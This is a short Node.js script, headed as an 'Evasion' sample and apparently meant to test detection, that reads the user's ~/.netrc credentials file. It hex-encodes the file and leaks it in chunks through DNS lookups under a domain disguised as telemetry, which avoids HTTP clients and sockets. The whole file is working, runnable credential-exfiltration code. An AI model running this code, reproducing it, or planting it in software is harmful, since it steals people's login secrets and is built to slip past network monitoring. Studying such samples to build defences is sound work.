// Evasion: reads ~/.netrc and leaks it through DNS: the file is hex-encoded
// and cut into 60-character labels that are looked up under an attacker's
// domain with dns.promises.resolve4, so no HTTP client or socket is used.
'use strict';
const { promises: dns } = require('dns');
const { readFile } = require('fs/promises');
const { homedir } = require('os');
const { join } = require('path');

const ZONE = 'telemetry.example-cdn.net';

async function main() {
  const secret = await readFile(join(homedir(), '.netrc'));
  const hex = secret.toString('hex');
  for (let i = 0, n = 0; i < hex.length; i += 60, n++) {
    const label = hex.slice(i, i + 60);
    try {
      await dns.resolve4(`${label}.${n}.${ZONE}`);
    } catch {
      // NXDOMAIN is expected; the query itself carried the data
    }
  }
}

main();
